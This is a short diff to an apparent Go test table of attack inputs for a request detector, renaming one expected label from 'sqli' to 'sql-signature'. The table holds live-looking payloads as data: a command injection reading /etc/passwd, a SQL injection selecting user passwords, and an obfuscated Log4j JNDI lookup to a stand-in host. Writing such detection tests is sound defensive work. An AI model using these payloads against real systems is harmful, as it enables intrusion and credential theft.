@@ -57,7 +57,7 @@ func init() {
 		// header; ExtractParams reads its query: TestRepeatedPath).
 		attackEntry{lH, ":path", "/x;cat /etc/passwd", "cmdi", 0},
 		// gRPC metadata (and custom headers) without an x- prefix.
-		attackEntry{lH, "tenant-id", "acme' UNION SELECT password FROM users--", "sqli", 0},
+		attackEntry{lH, "tenant-id", "acme' UNION SELECT password FROM users--", "sql-signature", 0},
 		// Log4j: an empty date pattern spells nothing; the lookups that
 		// recurse until the stack overflows (CVE-2021-45105).
 		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
